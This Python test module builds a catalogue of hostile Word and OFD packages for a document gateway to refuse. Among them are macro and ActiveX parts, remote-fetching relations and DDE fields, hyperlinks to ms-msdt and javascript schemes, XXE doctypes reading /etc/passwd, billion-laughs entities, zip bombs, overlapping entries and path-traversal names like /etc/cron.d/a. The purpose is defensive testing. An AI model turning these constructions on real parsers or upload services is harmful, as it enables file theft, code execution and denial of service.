"""Hostile packages: what a .docx or .ofd can be made to carry, to point at, or to become when it is unpacked."""

import struct
import zipfile
import zlib
from io import BytesIO

from tests.gateways import files

W = f'xmlns:w="{files.WORD_NS}"'
PLAIN = files.docx(files.MARK)
TYPES = files.part(PLAIN, "[Content_Types].xml")
OFFICE = "application/vnd.openxmlformats-officedocument"
ELSEWHERE = [
    "http://192.0.2.1/x", "https://192.0.2.1/x", "file://192.0.2.1/x", "\\\\192.0.2.1\\x", "ftp://192.0.2.1/x",
    "//192.0.2.1/x",
]  # fmt: skip


def family() -> dict[str, list[bytes]]:
    """Name of the family → its files; every one must be refused."""
    return {
        "macros": _macros(),
        "activex and toolbars": _active(),
        "fetched from elsewhere": [
            files.with_relation(PLAIN, kind, where)
            for kind in ("attachedTemplate", "image", "oleObject", "frame", "subDocument")
            for where in ELSEWHERE[:4]
        ],
        "fetched from elsewhere, called inside": [
            files.with_relation(PLAIN, "image", where, mode="Internal") for where in ELSEWHERE
        ],
        "links that start something": [
            files.with_relation(PLAIN, "hyperlink", where)
            for where in ("javascript:alert(1)", "file:///c:/x.exe", "ms-msdt:/id", "search-ms:q", "vbscript:x",
                          "\\\\192.0.2.1\\x", "data:text/html,x", "//192.0.2.1/x")
        ],
        "links of a kind nobody knows": [
            files.with_relation(PLAIN, kind, "a.xml", mode="Internal")
            for kind in ("aFChunk", "package", "control", "vbaProject", "mailMergeSource", "recipientData", "x", "")
        ],
        "objects and files inside": _objects(),
        "types that are not listed": _types(),
        "fields that fetch": [files.with_body(PLAIN, _field(code, cut)) for code in FIELDS for cut in (1, 3)],
        "doctype and entities": _doctypes(),
        "svg": [
            files.repacked(PLAIN, {"word/media/a.svg": b"<svg/>"}),
            files.repacked(PLAIN, {"word/media/a.svg": b"<svg/>", "[Content_Types].xml": _default("svg", "image/svg+xml")}),
            files.repacked(PLAIN, {"word/media/a.htm": b"<html/>", "[Content_Types].xml": _default("htm", "text/html")}),
        ],
        "bombs": _bombs(),
        "archives in the archive": [
            files.repacked(PLAIN, {"word/media/a.png": inner, "[Content_Types].xml": _default("png", "image/png")})
            for inner in (PLAIN, files.zipped({"a": b"b"}), b"\x1f\x8b" + bytes(9), b"7z\xbc\xaf'\x1c", b"Rar!\x1a\x07")
        ],
        "overlapping entries": [_overlapping(depth) for depth in (2, 3, 10)],
        "sizes that lie": [_lying(size) for size in (1, 100, 1 << 31, 0xFFFFFFFE)],
        "names that lead out": [
            files.repacked(PLAIN, {name: b"x"})
            for name in ("../a", "/etc/cron.d/a", "word/../../a", "..\\a", "\\a", "word\\..\\..\\a")
        ],
        "two of one name": [_twice(name) for name in ("word/document.xml", "[Content_Types].xml", "_rels/.rels")],
        "torn": [PLAIN[:cut] for cut in (10, 100, 1_000, 5_000, len(PLAIN) - 30, len(PLAIN) - 1)],
        "locked": [_locked()],
        "no word file at all": [
            files.zipped({"a": b"b"}), files.zipped({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<a/>"}),
            files.zipped({"OFD.xml": b"<OFD/>"}), files.zipped({"[Content_Types].xml": b"x", "xl/workbook.xml": b"x"}),
        ],
        "ofd": _ofd(),
    }  # fmt: skip


FIELDS = ['DDE a b', 'DDEAUTO c:\\x "a"', "INCLUDETEXT x", "INCLUDEPICTURE x", "IMPORT x", "LINK x", "DATABASE x",
          "ddeauto c:\\x"]  # fmt: skip


def _field(code: str, cut: int) -> str:
    parts = "".join(f"<w:r><w:instrText>{part}</w:instrText></w:r>" for part in (code[:cut], code[cut:]))
    return f"<w:p>{parts}</w:p>"


def _macros() -> list[bytes]:
    names = ("vbaProject.bin", "VBAPROJECT.BIN", "vbaData.xml", "a.bin")
    found = [files.repacked(PLAIN, {f"word/{name}": b"\xd0\xcf\x11\xe0"}) for name in names]
    for kind in ("document.macroEnabled", "template.macroEnabledTemplate"):
        main = TYPES.replace(
            b"vnd.openxmlformats-officedocument.wordprocessingml.document", f"vnd.ms-word.{kind}".encode()
        )
        found.append(files.repacked(PLAIN, {"[Content_Types].xml": main}))
    bound = _default("bin", "application/vnd.ms-office.vbaProject")
    return [*found, files.repacked(PLAIN, {"word/x.bin": b"x", "[Content_Types].xml": bound})]


def _active() -> list[bytes]:
    control = _default("bin", "application/vnd.ms-office.activeX")
    return [
        files.repacked(PLAIN, {"word/activeX/activeX1.xml": b"<a/>"}),
        files.repacked(PLAIN, {"word/activeX/activeX1.bin": b"x", "[Content_Types].xml": control}),
        files.repacked(PLAIN, {"customUI/customUI.xml": b"<a/>"}),
        files.repacked(PLAIN, {"word/attachedToolbars.bin": b"x"}),
    ]


def _objects() -> list[bytes]:
    ole, sheet = _default("bin", f"{OFFICE}.oleObject"), _default("xlsx", f"{OFFICE}.spreadsheetml.sheet")
    return [
        files.repacked(PLAIN, {"word/embeddings/oleObject1.bin": b"\xd0\xcf", "[Content_Types].xml": ole}),
        files.repacked(PLAIN, {"word/embeddings/a.xlsx": b"PK", "[Content_Types].xml": sheet}),
        files.repacked(PLAIN, {"word/embeddings/a.exe": b"MZ"}),
        files.with_relation(PLAIN, "oleObject", "embeddings/a.bin", mode="Internal"),
        files.with_relation(PLAIN, "package", "embeddings/a.xlsx", mode="Internal"),
    ]


def _types() -> list[bytes]:
    kinds = ("text/html", "message/rfc822", "application/rtf", "application/x-msdownload", "application/octet-stream",
             "application/xhtml+xml", "application/vnd.ms-excel", "")  # fmt: skip
    return [
        files.repacked(PLAIN, {"word/a.dat": b"x", "[Content_Types].xml": _default("dat", kind)})
        for kind in kinds
    ] + [files.repacked(PLAIN, {"word/stranger.dat": b"x"})]


def _default(ending: str, kind: str) -> bytes:
    return TYPES.replace(
        b"</Types>", f'<Default Extension="{ending}" ContentType="{kind}"/></Types>'.encode()
    )


def _doctypes() -> list[bytes]:
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10 if n else "ha"}">' for n in range(10))
    heads = ["<!DOCTYPE a>", '<!DOCTYPE a SYSTEM "file:///etc/passwd">', f"<!DOCTYPE a [{laughs}]>",
             '<!DOCTYPE a [<!ENTITY % x SYSTEM "http://192.0.2.1/x">%x;]>']  # fmt: skip
    parts = [
        "docProps/custom.xml",
        "customXml/item2.xml",
        "word/document.xml",
        "word/_rels/document.xml.rels",
    ]
    return [
        files.repacked(PLAIN, {part: f'<?xml version="1.0"?>{head}<a>&l9;</a>'.encode(encoding)})
        for head in heads
        for part in parts
        for encoding in ("utf-8", "utf-16")
    ]


def _bombs() -> list[bytes]:
    zeros = bytes(30 << 20)
    deep = "<w:p>" * 200_000 + "</w:p>" * 200_000
    return [
        files.repacked(PLAIN, {"word/media/a.png": zeros}),
        files.repacked(PLAIN, {f"word/media/{n}.png": zeros[: 9 << 20] for n in range(4)}),
        files.repacked(PLAIN, {f"word/media/{n}.png": b"x" for n in range(2_001)}),
        files.repacked(PLAIN, {f"word/media/{n}": b"" for n in range(40_000)}),
        files.with_body(PLAIN, deep),
        files.repacked(PLAIN, {"word/document.xml": b"<a>" * 2_000_000}),
    ]


def _overlapping(times: int) -> bytes:
    """Many entries of one directory that all point at the same bytes (as CVE-2024-0450 tells)."""
    whole = bytearray(files.zipped({"word/a.xml": bytes(1 << 20)}))
    end = whole.rindex(b"PK\x05\x06")
    at = struct.unpack_from("<I", whole, end + 16)[0]
    entry = bytes(whole[at:end])
    entries = b"".join(entry.replace(b"word/a.xml", f"word/{n}.xml".encode()) for n in range(times))
    tail = struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, times, times, len(entries), at, 0)
    return bytes(whole[:at]) + entries + tail


def _lying(size: int) -> bytes:
    """The directory says ``size``; the entry holds something else."""
    whole = bytearray(PLAIN)
    at = whole.rindex(b"word/document.xml") - 46
    assert whole[at : at + 4] == b"PK\x01\x02"
    struct.pack_into("<I", whole, at + 24, size)
    return bytes(whole)


def _twice(name: str) -> bytes:
    whole = BytesIO(PLAIN)
    with zipfile.ZipFile(whole, "a") as archive:
        archive.writestr(f"{name[:-1]}_", b"<a/>")
    return whole.getvalue().replace(f"{name[:-1]}_".encode(), name.encode())


def _locked() -> bytes:
    whole = bytearray(PLAIN)
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        whole[whole.index(mark) + offset] |= 1
    return bytes(whole)


def _ofd() -> list[bytes]:
    plain = files.ofd("上")
    return [
        files.repacked(plain, {"a.xml": b"<!DOCTYPE a><a/>"}),
        files.repacked(plain, {"Doc_0/Attachs/a.zip": files.zipped({"a": b"b"})}),
        files.repacked(plain, {"OFD.xml": None, "ofd.xml": b"<a/>"}),
        files.repacked(plain, {"OFD.xml": b"<a>" * 1_000_000}),
        files.repacked(plain, {"Doc_0/Document.xml": b"<a"}),
        files.repacked(plain, {"../../a": b"x"}),
        files.repacked(plain, {"big": bytes(30 << 20)}),
        plain[: len(plain) // 2],
    ]


def squeezed(megabytes: int) -> bytes:
    """Zeros, as a stream of zlib."""
    press = zlib.compressobj(1)
    return b"".join(press.compress(bytes(1 << 20)) for _ in range(megabytes)) + press.flush()
